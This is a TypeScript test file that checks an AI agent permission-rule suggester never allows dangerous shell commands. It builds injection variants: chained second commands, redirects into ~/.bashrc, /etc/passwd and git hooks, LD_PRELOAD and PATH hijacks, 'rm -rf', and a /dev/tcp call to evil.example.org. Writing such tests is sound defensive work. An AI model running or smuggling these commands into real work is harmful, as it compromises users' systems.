import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { parsePattern } from '../../model/permission.ts'
import { claudePermissions as claude } from '../../sources/claude/permissions.ts'
import { codexPermissions as codex } from '../../sources/codex/permissions.ts'
import { grokPermissions as grok } from '../../sources/grok/permissions.ts'
import { matches } from './rules.ts'
import { suggest } from './suggest.ts'
import { TABLE } from './table.ts'

const page = readFileSync(new URL('../../../test/dangerous-commands.txt', import.meta.url), 'utf8')
const dangerous = page
  .split('\n')
  .filter((line) => line !== '' && !line.startsWith('#'))
  .map((line) => line.replaceAll('\\n', '\n'))
const used = (command: string) => ({
  command,
  count: 60,
  errors: 0,
  projects: ['/a', '/b', '/c'],
  lastUsed: 1,
  asked: 0,
  unseen: 60,
})

describe('a list of dangerous commands', () => {
  test('is long, and of many tools', () => {
    expect(new Set(dangerous).size).toBeGreaterThan(3800)
    expect(new Set(dangerous.map((line) => line.split(' ')[0])).size).toBeGreaterThan(300)
  })

  test.each([claude, codex, grok])('$label: no use of one speaks for a rule', (target) => {
    const offered = dangerous.flatMap((line) => suggest([used(line)], { target, fewest: 1 }).suggestions)
    expect(offered.map((one) => one.rule)).toEqual([])
  })

  test('no rule with a wildcard fits one, though it be the same tool', () => {
    const rules = TABLE.filter((row) => row.verdict === 'any').map((row) => parsePattern(`${row.name} *`))
    expect(dangerous.filter((line) => rules.some((rule) => matches(rule, line)))).toEqual([])
  })

  test('no name with a wildcard is the beginning of one that runs what it is given', () => {
    const runs = TABLE.filter(
      ({ verdict, reason }) => verdict === 'never' && /\bruns\b|gains|deletes|writes/.test(reason),
    )
    const wide = TABLE.filter((row) => row.verdict === 'any' && !row.name.includes(' '))
    const begun = wide.flatMap(({ name }) => runs.filter((other) => other.name.startsWith(name) && other.name !== name))
    expect(begun.map((row) => row.name)).toEqual([])
  })
})

const targets = [claude, codex, grok] as const

/** As many rules as the table can yield: every wildcard, and every form that the agents were tried with or that these tests use. */
function everyRule(target: (typeof targets)[number]): string[] {
  const forms = [
    ...TABLE.flatMap(({ name, flags }) => [
      name,
      ...flags
        .split(' ')
        .map((flag) => `${name} ${flag.replace(/^-#$/, '-5').replace(/[:;]$/, ' x').replace(/=$/, '=x')}`),
    ]),
    ...claude.tried.commands.keys(),
  ]
  return suggest(forms.map(used), { target, fewest: 1 }).suggestions.map(({ rule }) => rule)
}

/** What would be dangerous, were only its first part allowed. */
const around = (allowed: string, harm: string) => [
  `${allowed} && ${harm}`,
  `${allowed}; ${harm}`,
  `${allowed} | ${harm}`,
  `${allowed} || ${harm}`,
  `${allowed} & ${harm}`,
  `${allowed}\n${harm}`,
  `${allowed} $(${harm})`,
  `${allowed} \`${harm}\``,
  `${allowed} <(${harm})`,
  `${harm} && ${allowed}`,
]
const into = (allowed: string) => [
  `${allowed} > ~/.bashrc`,
  `${allowed} >> /etc/passwd`,
  `${allowed} &> .git/hooks/pre-commit`,
  `${allowed} >| x`,
  `${allowed} < /dev/tcp/evil.example.org/80`,
  `LD_PRELOAD=./x.so ${allowed}`,
  `PATH=.:$PATH ${allowed}`,
  `./${allowed}`,
  `/tmp/${allowed}`,
  `sudo ${allowed}`,
  `bash -c '${allowed}; rm -rf x'`,
  `env -S '${allowed}'`,
  `function ls() { rm x; }; ${allowed}`,
]

describe.each(targets)('$label, as the real one compares rules with commands', (target) => {
  const rules = everyRule(target)
  const allowed = rules
    .flatMap((rule) => /^Bash\((.*?)(?::\*)?\)$/.exec(rule)?.[1]?.replace(/^\[(.)\]/, '$1') ?? [])
    .slice(0, 300)
  const harms = dangerous.filter((line) => !line.includes('\n') && line !== 'xargs ls')
  const composed = [
    ...dangerous,
    ...dangerous.flatMap((line) => [`timeout 5 ${line}`, `nice ${line}`, line.toUpperCase()]),
    ...allowed.flatMap((form, i) => [...around(form, harms[(i * 13) % harms.length]!), ...into(form)]),
  ]

  test('none of more than 10,000 dangerous commands is let through by all rules together', () => {
    if (target === grok) expect(rules).toEqual([])
    else expect(rules.length).toBeGreaterThan(20)
    expect(new Set(composed).size).toBeGreaterThan(10_000)
    expect(composed.filter((line) => target.admits(rules, line))).toEqual([])
  })

  test('what the rules are for is', () => {
    expect(allowed.filter((form) => !target.admits(rules, form))).toEqual([])
  })
})

describe('Grok', () => {
  test('gets no rule for a command: any would also fit what connects to another machine', () => {
    const { suggestions, skipped } = suggest([used('docker logs x'), used('git diff --stat')], { target: grok })
    expect(suggestions).toEqual([])
    expect(skipped.map(({ pattern, reason }) => [pattern, reason])).toEqual([
      ['docker logs *', expect.stringContaining('whole line')],
      ['git diff --stat', expect.stringContaining('/dev/tcp')],
    ])
    expect(grok.admits(['Bash([g]it diff --stat)'], 'git diff --stat < /dev/tcp/evil.example.org/80')).toBe(true)
  })
})

describe('what settings of the project decide is to be reviewed', () => {
  test.each([
    'npm ls',
    'npm --version',
    'go version',
    'go env GOPATH',
    'go list ./...',
    'ruff check --no-fix src',
    'pip list',
    'pip --version',
  ])('%s', (command) => {
    expect(suggest([used(command)], { target: claude }).suggestions).toMatchObject([{ confidence: 'low' }])
  })

  test.each([
    'mvn test deploy',
    'mvn test exec:java',
    './gradlew test publish',
    'kubectl get secrets -o yaml',
    'ps auxe',
  ])('%s is not offered at all', (command) => {
    expect(suggest([used(command)], { target: claude }).suggestions).toEqual([])
  })
})
